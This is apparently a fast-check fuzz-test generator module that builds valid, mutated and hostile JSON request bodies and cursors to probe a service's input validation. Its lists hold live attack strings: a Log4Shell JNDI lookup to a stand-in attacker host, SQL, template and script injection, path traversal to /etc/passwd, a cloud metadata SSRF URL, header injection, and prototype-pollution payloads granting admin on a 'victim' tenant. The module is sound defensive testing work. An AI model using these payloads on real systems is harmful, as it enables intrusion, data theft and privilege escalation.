/** Generators of what callers may send: valid, nearly valid, and meant to do harm. */
import fc from 'fast-check';

const DEEP = 5_000;
/** Words that have broken something somewhere. */
const NASTY: readonly string[] = [
  '',
  ' ',
  '\u0000',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '../../etc/passwd',
  '..%2f..%2f',
  '%',
  '%00',
  '%c0%ae%c0%ae/',
  '#',
  'S#ses_00000000000000000000000000#session',
  '\ud800',
  '\udfff\ud800',
  '‮gnp.exe',
  'é'.normalize('NFD'),
  '👩‍👩‍👧‍👦',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9'.repeat(400),
  'x'.repeat(3_000),
  '"; DROP TABLE sessions; --',
  '{{7*7}}',
  '${jndi:ldap://evil.example.com/a}',
  '<script>alert(1)</script>',
  'a\r\nx-injected: yes',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
];

const nasty = fc.constantFrom(...NASTY);
export const text = fc.oneof(nasty, fc.string({ unit: 'binary', maxLength: 30 }), fc.string({ maxLength: 30 }));

const leaf = fc.oneof(
  text,
  fc.constantFrom<unknown>(null, true, false, 0, -1, -0, 1.5, 1e308, Number.MAX_SAFE_INTEGER, 2 ** 63, [], {}),
  fc.integer(),
);
const key = fc.oneof(
  nasty,
  fc.constantFrom('to', 'message', 'content', 'type', 'sessionId', 'limit', 'cursor', 'url', 'name', 'scopes'),
);
const json: fc.Arbitrary<unknown> = fc.letrec<{ tree: unknown }>((tie) => ({
  tree: fc.oneof(
    { depthSize: 'small', maxDepth: 4 },
    leaf,
    fc.array(tie('tree'), { maxLength: 4 }),
    fc.dictionary(key, tie('tree'), { maxKeys: 4 }),
  ),
})).tree;

/** A value with something in it changed, taken away or added. */
function mutated(value: unknown): fc.Arbitrary<unknown> {
  if (typeof value !== 'object' || value === null) return fc.oneof(leaf, fc.constant(value));
  const entries = Object.entries(value);
  const changed = entries.map(([name, inner]) => mutated(inner).map((next) => ({ ...value, [name]: next })));
  const without = entries.map(([name]) => fc.constant(Object.fromEntries(entries.filter(([other]) => other !== name))));
  const added = fc.tuple(key, leaf).map(([name, more]) => Object.fromEntries([...entries, [name, more]]));
  return fc.oneof(fc.constant(value), added, ...changed, ...without);
}

/** `{"__proto__": …}` as text: an object literal would set the prototype instead. */
const RAW: readonly string[] = [
  '{"__proto__":{"role":"admin"}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '{"type":"ping","type":"create_session"}',
  '['.repeat(DEEP) + ']'.repeat(DEEP),
  '{"content":'.repeat(DEEP) + '1' + '}'.repeat(DEEP),
  '{"limit":1e999}',
  '{"a":"\\ud800"}',
  '\ufeff{}',
  '{',
  '"',
  'nul',
  '{"a":1}{"b":2}',
];

const deep = '['.repeat(DEEP) + ']'.repeat(DEEP);
/** Members that no object in memory could have, to be put into a text that is valid without them. */
const SPLICES: readonly string[] = [
  '"__proto__":{"role":"admin","tenantId":"victim"},',
  '"constructor":{"prototype":{"role":"admin"}},',
  `"metadata":${deep},`,
  `"requestId":${deep},`,
  '"deadlineSeconds":1e999,',
  '"after":-1e999,',
  '"after":123456789012345678901234567890,',
  '"label":"\\ud800",',
  '"to":"\\u0000",',
  '"\\ud800":1,',
];
const spliced = (valid: unknown): fc.Arbitrary<string> =>
  fc.constantFrom(...SPLICES).map((more) => {
    const object = JSON.stringify(valid);
    return object === '{}' ? `{${more.slice(0, -1)}}` : object.replace('{', `{${more}`);
  });

/** As the gateway gives it to the function: as it is, encoded, or said to be encoded and not. */
export const wrapped = (body: fc.Arbitrary<string>): fc.Arbitrary<{ body: string; isBase64Encoded: boolean }> =>
  fc.tuple(body, fc.constantFrom('plain', 'plain', 'plain', 'encoded', 'garbled')).map(([said, way]) => ({
    body: way === 'encoded' ? Buffer.from(said).toString('base64') : said,
    isBase64Encoded: way !== 'plain',
  }));

/** The text of a body or frame, often near to the valid one. */
export const bodyLike = (valid: unknown): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 2, arbitrary: fc.constant(JSON.stringify(valid)) },
    { weight: 3, arbitrary: mutated(valid).map((value) => JSON.stringify(value) ?? '') },
    { weight: 2, arbitrary: json.map((value) => JSON.stringify(value) ?? '') },
    { weight: 1, arbitrary: spliced(valid) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW) },
    { weight: 1, arbitrary: text },
  );

/** A cursor of ours in its form, to a place that somebody made up. */
export const cursorLike = (tenant: string): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.oneof(
        fc.constantFrom(`sessions  ${tenant}`, `audit ${tenant}`, `events ${tenant}`, `hook# T#${tenant}`),
        text,
      ),
      fc.oneof(
        fc.dictionary(fc.oneof(fc.constantFrom('pk', 'sk', 'before', 'from', 'seq', 'low', 'tenant'), key), text, {
          maxKeys: 4,
        }),
        leaf,
      ),
    )
    .map((parts) => Buffer.from(JSON.stringify(parts)).toString('base64url'));
